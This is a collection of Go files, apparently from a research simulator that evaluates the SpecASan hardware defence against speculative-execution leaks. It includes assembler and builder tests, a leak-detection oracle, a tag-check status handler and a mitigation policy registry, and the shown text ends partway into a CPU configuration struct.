		"B nowhere",
		"LDR X1, [Y2]",
		"B.QQ label",
		".word futurelabel", // forward data refs unsupported
		"dup: NOP\ndup: NOP",
	}
	for _, src := range cases {
		if _, err := Assemble(src); err == nil {
			t.Errorf("expected error for %q", src)
		} else if !strings.Contains(err.Error(), "line") {
			t.Errorf("error should carry a line number: %v", err)
		}
	}
}

func TestRETDefaultsToLR(t *testing.T) {
	p := MustAssemble("RET")
	if in := p.InstAt(p.Entry); in.Rn != isa.LR {
		t.Fatalf("RET Rn = %v", in.Rn)
	}
}

func TestAdrAndMovLabel(t *testing.T) {
	p := MustAssemble(`
_start:
    ADR X0, data
    MOV X1, =data
    SVC #0
data:
    .word 42
`)
	want := p.MustLabel("data")
	for i := 0; i < 2; i++ {
		in := p.InstAt(p.Entry + uint64(4*i))
		if in.Op != isa.MOV || uint64(in.Imm) != want {
			t.Fatalf("inst %d = %v want imm %#x", i, in, want)
		}
	}
}

func TestNegativeAndHexAndCharImmediates(t *testing.T) {
	p := MustAssemble(`
    MOV X0, #-1
    MOV X1, #0xff
    MOV X2, #'A'
`)
	if in := p.InstAt(p.Entry); in.Imm != -1 {
		t.Fatalf("neg imm = %d", in.Imm)
	}
	if in := p.InstAt(p.Entry + 4); in.Imm != 255 {
		t.Fatalf("hex imm = %d", in.Imm)
	}
	if in := p.InstAt(p.Entry + 8); in.Imm != 'A' {
		t.Fatalf("char imm = %d", in.Imm)
	}
}

func TestRoundTripDisassembly(t *testing.T) {
	// Every instruction must disassemble without panicking and produce a
	// non-empty string.
	p := MustAssemble(`
    NOP
    MOV X0, #1
    MOVK X0, #2, LSL #16
    ADDS X1, X2, X3
    CMP X1, #0
    CSEL X4, X5, X6, EQ
    MUL X7, X8, X9
    UDIV X1, X2, X3
    LDR X1, [X2, #8]
    STRB X3, [X4, X5]
    SWPAL X1, X2, [X3]
    B.NE _start
_start:
    CBZ X1, _start
    BL _start
    BLR X9
    RET
    IRG X0, X1
    ADDG X2, X3, #16, #2
    STG X0, [X1]
    MRS X0, CNTVCT_EL0
    DC CIVAC, X4
    DSB
    BTI
    SVC #1
    HLT
`)
	for _, blk := range p.Code {
		for i := range blk.Insts {
			if s := blk.Insts[i].String(); s == "" {
				t.Fatalf("empty disassembly at %d", i)
			}
		}
	}
}

// TestDisassembleReassembleRoundTrip: for a representative set of
// instructions, String() must produce text the assembler accepts again and
// that decodes to the same instruction.
func TestDisassembleReassembleRoundTrip(t *testing.T) {
	srcs := []string{
		"NOP", "MOV X1, #42", "MOV X2, X3", "ADD X1, X2, X3",
		"ADD X1, X2, #9", "SUBS X4, X5, #1", "CMP X1, X2", "CMP X3, #7",
		"AND X1, X2, #255", "LSL X1, X2, #3", "MUL X1, X2, X3",
		"UDIV X4, X5, X6", "CSEL X1, X2, X3, NE",
		"LDR X1, [X2, #16]", "LDR X1, [X2, X3]", "STRB X4, [X5, #-1]",
		"SWPAL X1, X2, [X3]", "BR X7", "BLR X8", "RET", "RET X9",
		"IRG X1, X2", "IRG X1, X2, X3", "ADDG X1, X2, #32, #2",
		"STG X1, [X2]", "ST2G X1, [X2]", "LDG X1, [X2]",
		"MRS X3, CNTVCT_EL0", "DC CIVAC, X4", "SVC #1", "DSB", "BTI", "HLT",
	}
	for _, src := range srcs {
		p1 := MustAssemble(src)
		in1 := p1.InstAt(p1.Entry)
		text := in1.String()
		p2, err := Assemble(text)
		if err != nil {
			t.Errorf("%q disassembled to %q which does not re-assemble: %v", src, text, err)
			continue
		}
		in2 := p2.InstAt(p2.Entry)
		if *in1 != *in2 {
			t.Errorf("%q: round trip %q decoded differently:\n  %+v\n  %+v",
				src, text, in1, in2)
		}
	}
}

// TestBranchDisassemblyShowsTargets: branch targets resolve to absolute
// addresses in disassembly.
func TestBranchDisassemblyShowsTargets(t *testing.T) {
	p := MustAssemble(`
_start:
    B end
    NOP
end:
    SVC #0
`)
	in := p.InstAt(p.Entry)
	if in.String() != "B 0x10008" {
		t.Fatalf("disassembly = %q", in.String())
	}
}

// TestCommentsAndWhitespaceVariants: the lexer tolerates both comment styles
// and flexible spacing.
func TestCommentsAndWhitespaceVariants(t *testing.T) {
	p := MustAssemble(`
  _start:   MOV   X0,#1   // trailing comment
	ADD X0 , X0 , #2  ; semicolon comment
    SVC #0
`)
	if p.NumInsts() != 3 {
		t.Fatalf("insts = %d", p.NumInsts())
	}
	in := p.InstAt(p.Entry + 4)
	if in.Op.String() != "ADD" || in.Imm != 2 {
		t.Fatalf("spaced operands parsed wrong: %v", in)
	}
}

// TestLabelOnlyLinesAndMultipleLabels: several labels may share an address.
func TestLabelOnlyLinesAndMultipleLabels(t *testing.T) {
	p := MustAssemble(`
a: b:
c:
    NOP
`)
	if p.MustLabel("a") != p.MustLabel("b") || p.MustLabel("b") != p.MustLabel("c") {
		t.Fatal("aliased labels must share the address")
	}
}
