package asm

import "testing"

// TestAssembleLargeProgram exercises block bookkeeping on a big input.
func TestAssembleLargeProgram(t *testing.T) {
	src := "_start:\n"
	for i := 0; i < 20000; i++ {
		src += "    ADD X1, X1, #1\n"
	}
	src += "    SVC #0\n"
	p, err := Assemble(src)
	if err != nil {
		t.Fatal(err)
	}
	if p.NumInsts() != 20001 {
		t.Fatalf("insts = %d", p.NumInsts())
	}
	if in := p.InstAt(p.Entry + 20000*4); in.Op.String() != "SVC" {
		t.Fatalf("last inst = %v", in)
	}
	if p.InstAt(p.Entry+20001*4) != nil {
		t.Fatal("out-of-range InstAt must be nil")
	}
	if p.InstAt(p.Entry+2) != nil {
		t.Fatal("misaligned InstAt must be nil")
	}
}
