package asm

import (
	"fmt"
	"strings"
)

// Builder assembles program source line by line — the programmatic
// counterpart to writing a template string. Generators (the attack fuzzer,
// workload synthesis) compose instruction sequences without worrying about
// column discipline, and the result feeds straight into Assemble.
//
// The zero value is ready to use. All methods return the builder for
// chaining.
type Builder struct {
	b strings.Builder
}

// NewBuilder returns an empty builder.
func NewBuilder() *Builder { return &Builder{} }

// Op appends one instruction line: four-space indent, mnemonic padded to
// column width, operands comma-joined.
func (b *Builder) Op(mnemonic string, operands ...string) *Builder {
	b.b.WriteString("    ")
	if len(operands) == 0 {
		b.b.WriteString(mnemonic)
	} else {
		fmt.Fprintf(&b.b, "%-4s %s", mnemonic, strings.Join(operands, ", "))
	}
	b.b.WriteByte('\n')
	return b
}

// Label appends a label definition line.
func (b *Builder) Label(name string) *Builder {
	b.b.WriteString(name)
	b.b.WriteString(":\n")
	return b
}

// Raw appends pre-formatted source verbatim (multi-line allowed). A missing
// trailing newline is added so subsequent lines stay well-formed.
func (b *Builder) Raw(src string) *Builder {
	b.b.WriteString(src)
	if !strings.HasSuffix(src, "\n") {
		b.b.WriteByte('\n')
	}
	return b
}

// Org appends an .org directive placing subsequent output at addr.
func (b *Builder) Org(addr uint64) *Builder {
	fmt.Fprintf(&b.b, "    .org %d\n", addr)
	return b
}

// Space appends a .space directive reserving n zero bytes.
func (b *Builder) Space(n int) *Builder {
	fmt.Fprintf(&b.b, "    .space %d\n", n)
	return b
}

// Word appends a .word directive (value or label reference).
func (b *Builder) Word(v string) *Builder {
	fmt.Fprintf(&b.b, "    .word %s\n", v)
	return b
}

// Imm formats an integer as an immediate operand for Op.
func Imm(v uint64) string { return fmt.Sprintf("#%d", v) }

// Deref formats a base-register memory operand: [Xn].
func Deref(reg string) string { return "[" + reg + "]" }

// DerefIdx formats a base+index memory operand: [Xn, Xm] (or [Xn, #imm]).
func DerefIdx(reg, idx string) string { return "[" + reg + ", " + idx + "]" }

// Source returns the accumulated program text.
func (b *Builder) Source() string { return b.b.String() }

// Lines returns the accumulated text split into lines, without the trailing
// empty slot — the unit the fuzzer's minimiser deletes by.
func (b *Builder) Lines() []string {
	s := strings.TrimSuffix(b.b.String(), "\n")
	if s == "" {
		return nil
	}
	return strings.Split(s, "\n")
}

// Assemble assembles the accumulated source.
func (b *Builder) Assemble() (*Program, error) { return Assemble(b.Source()) }
