package asm

import (
	"reflect"
	"testing"
)

func TestBuilderFormatting(t *testing.T) {
	b := NewBuilder()
	b.Label("_start").
		Op("MOV", "X1", Imm(7)).
		Op("LDR", "X2", Deref("X1")).
		Op("LDR", "X3", DerefIdx("X1", "X2")).
		Op("NOP").
		Op("SVC", "#0")
	want := "_start:\n" +
		"    MOV  X1, #7\n" +
		"    LDR  X2, [X1]\n" +
		"    LDR  X3, [X1, X2]\n" +
		"    NOP\n" +
		"    SVC  #0\n"
	if got := b.Source(); got != want {
		t.Fatalf("source:\n%q\nwant:\n%q", got, want)
	}
}

func TestBuilderLines(t *testing.T) {
	if got := NewBuilder().Lines(); got != nil {
		t.Fatalf("empty builder lines = %v", got)
	}
	b := NewBuilder().Op("NOP").Op("SVC", "#0")
	want := []string{"    NOP", "    SVC  #0"}
	if got := b.Lines(); !reflect.DeepEqual(got, want) {
		t.Fatalf("lines = %v, want %v", got, want)
	}
}

func TestBuilderRawNewline(t *testing.T) {
	// Raw without a trailing newline must not glue the next line on.
	b := NewBuilder().Raw("    MOV X1, #1").Op("SVC", "#0")
	want := []string{"    MOV X1, #1", "    SVC  #0"}
	if got := b.Lines(); !reflect.DeepEqual(got, want) {
		t.Fatalf("lines = %v, want %v", got, want)
	}
}

func TestBuilderDirectivesAssemble(t *testing.T) {
	b := NewBuilder()
	b.Label("_start").
		Op("ADR", "X1", "slot").
		Op("LDR", "X2", Deref("X1")).
		Op("SVC", "#0").
		Org(0x2000)
	b.Label("slot").Word("41").Space(8)
	prog, err := b.Assemble()
	if err != nil {
		t.Fatalf("assemble: %v\n%s", err, b.Source())
	}
	if _, err := prog.LookupLabel("slot"); err != nil {
		t.Fatalf("label lost: %v", err)
	}
}
