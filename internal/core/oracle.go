package core

import "fmt"

// LeakChannel identifies the microarchitectural structure through which a
// speculatively accessed secret became observable. The empirical security
// evaluation (§4.3 of the paper) judges an attack "successful" when a
// secret-tainted value influences one of these channels during speculation;
// this mirrors the paper's detection-log methodology.
type LeakChannel uint8

// Leak channels.
const (
	ChanCache   LeakChannel = iota // cache fill with secret-dependent address
	ChanLFB                        // stale LFB data forwarded to a load
	ChanSQ                         // stale store-queue data forwarded to a load
	ChanPort                       // execution-port contention (SMoTHERSpectre)
	ChanMSHR                       // MSHR occupancy perturbation (Spec. Interference)
	ChanDivider                    // non-pipelined divider contention (SpectreRewind)
	NumChannels
)

var chanNames = [NumChannels]string{
	ChanCache: "cache", ChanLFB: "lfb", ChanSQ: "sq",
	ChanPort: "port", ChanMSHR: "mshr", ChanDivider: "div",
}

// String names the channel.
func (c LeakChannel) String() string {
	if c < NumChannels {
		return chanNames[c]
	}
	return fmt.Sprintf("chan(%d)", uint8(c))
}

// LeakEvent records one secret-dependent microarchitectural state change
// observed during speculative execution.
type LeakEvent struct {
	Channel LeakChannel
	Cycle   uint64
	Seq     uint64 // instruction sequence number
	PC      uint64
	Addr    uint64 // address involved, if any
}

// Oracle is the always-on security analysis attached to a simulation. The
// harness marks the secret's memory region; the pipeline propagates
// "secret taint" through dataflow (independently of any mitigation) and the
// oracle records every speculative state change influenced by tainted data.
//
// A mitigation fully blocks an attack when the oracle records no events for
// any gadget variant; it partially blocks it when the mismatched-tag variant
// is silent but the matched-tag variant still leaks.
type Oracle struct {
	regions []region
	events  []LeakEvent
	// SecretReads counts speculative loads that returned secret bytes —
	// the ACCESS stage succeeding, even if transmission was later blocked.
	SecretReads uint64
}

type region struct{ lo, hi uint64 }

// NewOracle returns an oracle with no secret regions.
func NewOracle() *Oracle { return &Oracle{} }

// MarkSecret declares [lo, lo+size) as secret data.
func (o *Oracle) MarkSecret(lo uint64, size uint64) {
	o.regions = append(o.regions, region{lo, lo + size})
}

// IsSecret reports whether any byte of [addr, addr+size) is secret.
func (o *Oracle) IsSecret(addr uint64, size int) bool {
	end := addr + uint64(size)
	for _, r := range o.regions {
		if addr < r.hi && end > r.lo {
			return true
		}
	}
	return false
}

// HasSecrets reports whether any region is marked (fast path for the
// pipeline: skip taint work entirely during performance runs).
func (o *Oracle) HasSecrets() bool { return o != nil && len(o.regions) > 0 }

// Record stores a leak event.
func (o *Oracle) Record(ev LeakEvent) { o.events = append(o.events, ev) }

// Events returns all recorded leak events.
func (o *Oracle) Events() []LeakEvent { return o.events }

// EventsOn returns the number of events recorded on the given channel.
func (o *Oracle) EventsOn(c LeakChannel) int {
	n := 0
	for _, e := range o.events {
		if e.Channel == c {
			n++
		}
	}
	return n
}

// Leaked reports whether any leak event was recorded.
func (o *Oracle) Leaked() bool { return len(o.events) > 0 }

// Reset clears recorded events but keeps the secret regions.
func (o *Oracle) Reset() {
	o.events = o.events[:0]
	o.SecretReads = 0
}
