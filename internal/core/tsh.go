package core

import "fmt"

// TCS is the two-bit tag check status SpecASan attaches to every LSQ entry
// (§3.3.2): "init" (00), "safe" (01), "unsafe" (10), "wait" (11).
type TCS uint8

// Tag check states.
const (
	TCSInit   TCS = 0
	TCSSafe   TCS = 1
	TCSUnsafe TCS = 2
	TCSWait   TCS = 3
)

var tcsNames = [...]string{TCSInit: "init", TCSSafe: "safe", TCSUnsafe: "unsafe", TCSWait: "wait"}

// String returns the state name.
func (t TCS) String() string {
	if int(t) < len(tcsNames) {
		return tcsNames[t]
	}
	return fmt.Sprintf("tcs(%d)", uint8(t))
}

// ROBSignal is what the TSH needs from the Reorder Buffer: the SSA (safe
// speculative access) notification of Figure 4. The ROB uses it to hold back
// unsafe accesses and their dependents until speculation resolves, and to
// raise a tag-check fault if an unsafe access turns out to be on the correct
// path.
type ROBSignal interface {
	// SignalSSA reports the tag-check outcome for the instruction with the
	// given sequence number: safe=true corresponds to SSA=1.
	SignalSSA(seq uint64, safe bool)
}

// TSHStats counts TSH activity for the restriction metrics of Figure 8.
type TSHStats struct {
	Issued        uint64 // tag-checked accesses entering "wait"
	Safe          uint64 // transitions to "safe"
	Unsafe        uint64 // transitions to "unsafe"
	Forwarded     uint64 // store-to-load forwards allowed (tags matched)
	ForwardDenied uint64 // store-to-load forwards blocked (tag mismatch)
	DepMarked     uint64 // dependent instructions marked unsafe by the ROB
	Faults        uint64 // tag-check faults raised on the committed path
	Replays       uint64 // unsafe accesses replayed after speculation resolved
}

// TSH is the Tag-check Status Handler introduced within the LSQ (§3.3.2).
// It tracks the tcs field of in-flight memory instructions, evaluates
// tag-check outcomes arriving from the memory subsystem, and coordinates
// with the ROB through SSA signals.
//
// Entries are keyed by the instruction's global sequence number, which the
// pipeline already uses to identify LQ/SQ entries.
//
// Tracked sequence numbers are allocated monotonically and live only while
// the instruction is in flight, so at any instant they span at most the
// ROB window. That makes a power-of-two ring indexed by seq&mask a perfect
// hash in the steady state; the ring doubles on the (never expected)
// collision so the structure stays correct for any window size without
// the TSH having to know the ROB capacity.
type TSH struct {
	rob   ROBSignal
	slots []tshSlot
	mask  uint64
	count int
	Stats TSHStats
}

// tshSlot keeps a tracked seq, its status, and the occupancy bit together in
// one 16-byte record so every probe touches a single cache line.
type tshSlot struct {
	seq  uint64
	tcs  TCS
	live bool
}

// NewTSH returns a TSH wired to the given ROB.
func NewTSH(rob ROBSignal) *TSH {
	t := &TSH{rob: rob}
	t.grow(1024)
	return t
}

// grow resizes the ring to n slots (a power of two) and reinserts the
// live entries. Distinct live seqs within one window cannot collide once
// n exceeds the window span, so growth terminates.
func (t *TSH) grow(n int) {
	old := t.slots
	t.slots = make([]tshSlot, n)
	t.mask = uint64(n - 1)
	for _, s := range old {
		if s.live {
			t.slots[s.seq&t.mask] = s
		}
	}
}

// set stores status v for seq, claiming or resizing a slot as needed.
func (t *TSH) set(seq uint64, v TCS) {
	for {
		s := &t.slots[seq&t.mask]
		if !s.live {
			*s = tshSlot{seq: seq, tcs: v, live: true}
			t.count++
			return
		}
		if s.seq == seq {
			s.tcs = v
			return
		}
		t.grow(2 * len(t.slots))
	}
}

// Allocate initialises the tcs field for a newly dispatched memory
// instruction to "init".
func (t *TSH) Allocate(seq uint64) { t.set(seq, TCSInit) }

// Status returns the current tcs of seq ("init" if unknown).
func (t *TSH) Status(seq uint64) TCS {
	if s := &t.slots[seq&t.mask]; s.live && s.seq == seq {
		return s.tcs
	}
	return TCSInit
}

// OnIssue transitions seq to "wait" when its memory request is sent to the
// L1D cache or LFB (step ① of Figure 4).
func (t *TSH) OnIssue(seq uint64) {
	t.set(seq, TCSWait)
	t.Stats.Issued++
}

// OnResult consumes the tag-check outcome returned with the memory response
// (step ②): it moves the entry to "safe" or "unsafe" (③/⑤) and signals the
// ROB (④/⑥). It returns the new state.
func (t *TSH) OnResult(seq uint64, tagOK bool) TCS {
	if tagOK {
		t.set(seq, TCSSafe)
		t.Stats.Safe++
		t.rob.SignalSSA(seq, true)
		return TCSSafe
	}
	t.set(seq, TCSUnsafe)
	t.Stats.Unsafe++
	t.rob.SignalSSA(seq, false)
	return TCSUnsafe
}

// OnForward handles store-to-load forwarding: forwarding happens only when
// the address tags (keys) of the store and the load match (§3.4). It
// updates the load's tcs, signals the ROB, and reports whether the forward
// may proceed.
func (t *TSH) OnForward(loadSeq uint64, keysMatch bool) bool {
	if keysMatch {
		t.set(loadSeq, TCSSafe)
		t.Stats.Forwarded++
		t.rob.SignalSSA(loadSeq, true)
		return true
	}
	t.set(loadSeq, TCSUnsafe)
	t.Stats.ForwardDenied++
	t.rob.SignalSSA(loadSeq, false)
	return false
}

// MarkUnsafe is the ROB→TSH direction of step ⑧: dependent memory
// instructions of an unsafe access are themselves marked unsafe in the
// LQ/SQ so they do not issue while the unsafe parent is pending.
func (t *TSH) MarkUnsafe(seq uint64) {
	if t.Status(seq) != TCSUnsafe {
		t.set(seq, TCSUnsafe)
		t.Stats.DepMarked++
	}
}

// OnReplay transitions an unsafe entry back to "init" when speculation has
// resolved in its favour and the access is re-issued non-speculatively.
func (t *TSH) OnReplay(seq uint64) {
	t.set(seq, TCSInit)
	t.Stats.Replays++
}

// OnFault records a tag-check fault raised at commit for an unsafe access
// that was on the correctly speculated path.
func (t *TSH) OnFault(seq uint64) {
	t.Stats.Faults++
	t.Release(seq)
}

// Release frees the entry when the instruction commits or is squashed.
func (t *TSH) Release(seq uint64) {
	if s := &t.slots[seq&t.mask]; s.live && s.seq == seq {
		s.live = false
		t.count--
	}
}

// Pending returns the number of tracked entries (for invariant tests).
func (t *TSH) Pending() int { return t.count }
