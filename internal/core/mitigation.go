// Package core implements the paper's primary contribution: Speculative
// Address Sanitization. It contains the tag-check status (tcs) state machine
// of Figure 4, the Tag-check Status Handler (TSH) that coordinates the LSQ
// and the ROB, the selective-delay policy, and the mitigation policy layer
// that configures the pipeline for each defence the paper evaluates
// (speculative barriers, STT, GhostMinion, SpecCFI, SpecASan, SpecASan+CFI).
//
// The mechanism code here is microarchitecture-facing but pipeline-agnostic:
// internal/cpu drives it through small interfaces, and the unit tests
// exercise the state machine standalone.
package core

import (
	"fmt"
	"strings"
	"sync"
)

// Mitigation identifies a registered transient-execution defence
// configuration. It is an index into the policy registry; the configuration
// itself — which pipeline gates a defence arms, and with what knobs — lives
// in the Mitigation's PolicyDescriptor, not in code. New defences are added
// by registering a descriptor (RegisterPolicy), never by adding switch
// cases: every consumer reads descriptor bits.
type Mitigation uint8

// The paper's eight defence configurations, pre-registered in presentation
// order. Unsafe is the normalisation baseline (no MTE, no speculation
// restrictions). MTE enforces tag checks on the committed path only — the
// pre-SpecASan status quo.
const (
	Unsafe Mitigation = iota
	MTE
	Fence       // "Speculative Barriers": no load issues under unresolved speculation
	STT         // Speculative Taint Tracking (STT-Default)
	GhostMinion // shadow fill structure for speculative loads
	SpecCFI     // speculative control-flow integrity (BTI-validated targets)
	SpecASan    // this paper: MTE checks enforced on the speculative path
	SpecASanCFI // SpecASan + SpecCFI
	NumMitigations
)

// PolicyDescriptor is one defence configuration as data. The boolean fields
// are the pipeline gates a policy arms; Knobs carries per-policy tuning
// values. internal/cpu and internal/cache read these bits — descriptor
// identity (the Mitigation index) never drives behaviour.
type PolicyDescriptor struct {
	// Name is the display and parse name ("SpecASan", "SpecBarrier", ...).
	// Parsing is case-insensitive; the canonical spelling is what String
	// prints and what sweep tables show as the column header.
	Name string `json:"name"`
	// Class is the Figure 1 defence-class label ("delay ACCESS",
	// "delay USE", "delay TRANSMIT", ...), for taxonomy tables.
	Class string `json:"class"`

	// MTE enables platform tag checks at all: tag-storage fetches and
	// committed-path faults. Workload builders key tagged-heap codegen off
	// this bit.
	MTE bool `json:"mte,omitempty"`
	// SpecTagChecks gates the *speculative* path on tag checks — the
	// SpecASan mechanism itself (Figure 4 state machine, G1-G3).
	SpecTagChecks bool `json:"spec_tag_checks,omitempty"`
	// FenceLoads delays every load until all older control speculation
	// resolves (the delay-ACCESS barrier baseline).
	FenceLoads bool `json:"fence_loads,omitempty"`
	// Taint activates STT dataflow taint tracking (delay-USE).
	Taint bool `json:"taint,omitempty"`
	// GhostFills redirects speculative fills to the ghost buffer instead of
	// the cache hierarchy (GhostMinion, delay-TRANSMIT).
	GhostFills bool `json:"ghost_fills,omitempty"`
	// CFI validates speculative control-flow targets (SpecCFI).
	CFI bool `json:"cfi,omitempty"`
	// DelayOnMiss holds speculative loads that miss the L1D until
	// speculation resolves; hits proceed (the DoM defence class). Knob
	// "lfb_hit_ok" (default 1) additionally lets loads whose line is
	// already in flight in the LFB proceed.
	DelayOnMiss bool `json:"delay_on_miss,omitempty"`

	// Knobs holds per-policy tuning values by name. Use Knob to read one
	// with a default. Keys marshal sorted, so descriptors hash canonically.
	Knobs map[string]uint64 `json:"knobs,omitempty"`
}

// Knob returns the named knob value, or def when the knob is absent.
func (d *PolicyDescriptor) Knob(name string, def uint64) uint64 {
	if v, ok := d.Knobs[name]; ok {
		return v
	}
	return def
}

// registry holds every registered policy. Descriptors are stored behind
// pointers so Descriptor results stay valid across registrations. The lock
// guards registration (init-time in practice) against concurrent readers in
// parallel sweep workers.
var registry = struct {
	sync.RWMutex
	descs  []*PolicyDescriptor
	byName map[string]Mitigation // lower-cased name -> id
}{byName: make(map[string]Mitigation)}

func init() {
	for _, d := range []PolicyDescriptor{
		{Name: "Unsafe", Class: "none"},
		{Name: "MTE", Class: "committed-path tags", MTE: true},
		{Name: "SpecBarrier", Class: "delay ACCESS", FenceLoads: true},
		{Name: "STT", Class: "delay USE", Taint: true},
		{Name: "GhostMinion", Class: "delay TRANSMIT", GhostFills: true},
		{Name: "SpecCFI", Class: "restrict speculative CF", CFI: true},
		{Name: "SpecASan", Class: "delay unsafe ACCESS", MTE: true, SpecTagChecks: true},
		{Name: "SpecASan+CFI", Class: "delay unsafe ACCESS + CFI", MTE: true, SpecTagChecks: true, CFI: true},
	} {
		MustRegisterPolicy(d)
	}
}

// RegisterPolicy adds a defence configuration to the registry and returns
// its Mitigation id. Names are unique case-insensitively; registering a
// duplicate or empty name is an error. Register at init time — ids are
// process-global and appear in sweep output in registration order.
func RegisterPolicy(d PolicyDescriptor) (Mitigation, error) {
	if d.Name == "" {
		return 0, fmt.Errorf("policy registry: empty name")
	}
	key := strings.ToLower(d.Name)
	registry.Lock()
	defer registry.Unlock()
	if _, dup := registry.byName[key]; dup {
		return 0, fmt.Errorf("policy registry: %q already registered", d.Name)
	}
	if len(registry.descs) > 250 {
		return 0, fmt.Errorf("policy registry: full")
	}
	id := Mitigation(len(registry.descs))
	dc := d // copy; the registry owns its descriptor
	registry.descs = append(registry.descs, &dc)
	registry.byName[key] = id
	return id, nil
}

// MustRegisterPolicy is RegisterPolicy, panicking on error (init-time use).
func MustRegisterPolicy(d PolicyDescriptor) Mitigation {
	id, err := RegisterPolicy(d)
	if err != nil {
		panic(err)
	}
	return id
}

// Descriptor returns the mitigation's registered configuration. Unknown ids
// return the Unsafe descriptor (defensive: a Mitigation value is always
// produced by this package's constants, parsing, or registration).
func (m Mitigation) Descriptor() *PolicyDescriptor {
	registry.RLock()
	defer registry.RUnlock()
	if int(m) < len(registry.descs) {
		return registry.descs[m]
	}
	return registry.descs[Unsafe]
}

// String returns the mitigation's display name.
func (m Mitigation) String() string {
	registry.RLock()
	defer registry.RUnlock()
	if int(m) < len(registry.descs) {
		return registry.descs[m].Name
	}
	return fmt.Sprintf("Mitigation(%d)", uint8(m))
}

// ParseMitigation resolves a display name back to a Mitigation. Matching is
// case-insensitive ("specasan", "SPECASAN" and "SpecASan" are the same
// policy); the error lists the registered names.
func ParseMitigation(s string) (Mitigation, error) {
	registry.RLock()
	defer registry.RUnlock()
	if id, ok := registry.byName[strings.ToLower(strings.TrimSpace(s))]; ok {
		return id, nil
	}
	names := make([]string, len(registry.descs))
	for i, d := range registry.descs {
		names[i] = d.Name
	}
	return 0, fmt.Errorf("unknown mitigation %q (registered: %s)", s, strings.Join(names, ", "))
}

// MTEEnabled reports whether the platform performs MTE tag checks at all
// (tag-storage fetches, committed-path faults).
func (m Mitigation) MTEEnabled() bool { return m.Descriptor().MTE }

// SpecTagChecks reports whether tag checks gate the *speculative* path —
// the SpecASan mechanism itself.
func (m Mitigation) SpecTagChecks() bool { return m.Descriptor().SpecTagChecks }

// FencesSpeculativeLoads reports whether every load is delayed until all
// older control speculation resolves (the delay-ACCESS barrier baseline).
func (m Mitigation) FencesSpeculativeLoads() bool { return m.Descriptor().FenceLoads }

// TaintTracking reports whether STT dataflow taint is active.
func (m Mitigation) TaintTracking() bool { return m.Descriptor().Taint }

// GhostFills reports whether speculative fills are redirected to the ghost
// buffer instead of the cache hierarchy.
func (m Mitigation) GhostFills() bool { return m.Descriptor().GhostFills }

// CFIEnabled reports whether speculative control-flow targets are validated.
func (m Mitigation) CFIEnabled() bool { return m.Descriptor().CFI }

// AllMitigations lists the paper's eight defence configurations, in
// presentation order. Policies registered beyond the builtins (ablation or
// experimental defences) are listed by RegisteredMitigations instead, so the
// paper's tables keep their exact column sets.
func AllMitigations() []Mitigation {
	out := make([]Mitigation, NumMitigations)
	for i := range out {
		out[i] = Mitigation(i)
	}
	return out
}

// RegisteredMitigations lists every registered policy — builtins plus
// registry additions — in registration order.
func RegisteredMitigations() []Mitigation {
	registry.RLock()
	defer registry.RUnlock()
	out := make([]Mitigation, len(registry.descs))
	for i := range out {
		out[i] = Mitigation(i)
	}
	return out
}
