// Package core implements the paper's primary contribution: Speculative
// Address Sanitization. It contains the tag-check status (tcs) state machine
// of Figure 4, the Tag-check Status Handler (TSH) that coordinates the LSQ
// and the ROB, the selective-delay policy, and the mitigation policy layer
// that configures the pipeline for each defence the paper evaluates
// (speculative barriers, STT, GhostMinion, SpecCFI, SpecASan, SpecASan+CFI).
//
// The mechanism code here is microarchitecture-facing but pipeline-agnostic:
// internal/cpu drives it through small interfaces, and the unit tests
// exercise the state machine standalone.
package core

import "fmt"

// Mitigation selects the transient-execution defence configuration of a
// simulated machine.
type Mitigation uint8

// Mitigation configurations. Unsafe is the paper's normalisation baseline
// (no MTE, no speculation restrictions). MTE enforces tag checks on the
// committed path only — the pre-SpecASan status quo.
const (
	Unsafe Mitigation = iota
	MTE
	Fence       // "Speculative Barriers": no load issues under unresolved speculation
	STT         // Speculative Taint Tracking (STT-Default)
	GhostMinion // shadow fill structure for speculative loads
	SpecCFI     // speculative control-flow integrity (BTI-validated targets)
	SpecASan    // this paper: MTE checks enforced on the speculative path
	SpecASanCFI // SpecASan + SpecCFI
	NumMitigations
)

var mitigationNames = [NumMitigations]string{
	Unsafe: "Unsafe", MTE: "MTE", Fence: "SpecBarrier", STT: "STT",
	GhostMinion: "GhostMinion", SpecCFI: "SpecCFI", SpecASan: "SpecASan",
	SpecASanCFI: "SpecASan+CFI",
}

// String returns the mitigation's display name.
func (m Mitigation) String() string {
	if m < NumMitigations {
		return mitigationNames[m]
	}
	return fmt.Sprintf("Mitigation(%d)", uint8(m))
}

// ParseMitigation resolves a display name back to a Mitigation.
func ParseMitigation(s string) (Mitigation, error) {
	for m := Mitigation(0); m < NumMitigations; m++ {
		if mitigationNames[m] == s {
			return m, nil
		}
	}
	return 0, fmt.Errorf("unknown mitigation %q", s)
}

// MTEEnabled reports whether the platform performs MTE tag checks at all
// (tag-storage fetches, committed-path faults).
func (m Mitigation) MTEEnabled() bool {
	switch m {
	case MTE, SpecASan, SpecASanCFI:
		return true
	}
	return false
}

// SpecTagChecks reports whether tag checks gate the *speculative* path —
// the SpecASan mechanism itself.
func (m Mitigation) SpecTagChecks() bool {
	return m == SpecASan || m == SpecASanCFI
}

// FencesSpeculativeLoads reports whether every load is delayed until all
// older control speculation resolves (the delay-ACCESS barrier baseline).
func (m Mitigation) FencesSpeculativeLoads() bool { return m == Fence }

// TaintTracking reports whether STT dataflow taint is active.
func (m Mitigation) TaintTracking() bool { return m == STT }

// GhostFills reports whether speculative fills are redirected to the ghost
// buffer instead of the cache hierarchy.
func (m Mitigation) GhostFills() bool { return m == GhostMinion }

// CFIEnabled reports whether speculative control-flow targets are validated.
func (m Mitigation) CFIEnabled() bool {
	return m == SpecCFI || m == SpecASanCFI
}

// AllMitigations lists every configuration, in presentation order.
func AllMitigations() []Mitigation {
	out := make([]Mitigation, NumMitigations)
	for i := range out {
		out[i] = Mitigation(i)
	}
	return out
}
