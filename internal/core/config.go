package core

// Config holds the simulated CPU configuration. The defaults reproduce
// Table 2 of the paper (an ARM Cortex-A76-class out-of-order core).
type Config struct {
	// Core.
	Cores       int // hardware cores sharing the L2
	FetchWidth  int // instructions fetched per cycle
	IssueWidth  int // micro-ops issued per cycle
	CommitWidth int // micro-ops committed per cycle
	IQEntries   int // issue queue capacity
	ROBEntries  int // reorder buffer capacity
	LQEntries   int // load queue capacity
	SQEntries   int // store queue capacity

	// Functional units.
	ALUs      int // simple integer units, 1-cycle
	MulLat    int // multiplier latency (pipelined)
	DivLat    int // divider latency (not pipelined)
	BranchLat int // issue-to-resolve latency of branches (pipeline depth)
	LoadPorts int // L1D read ports
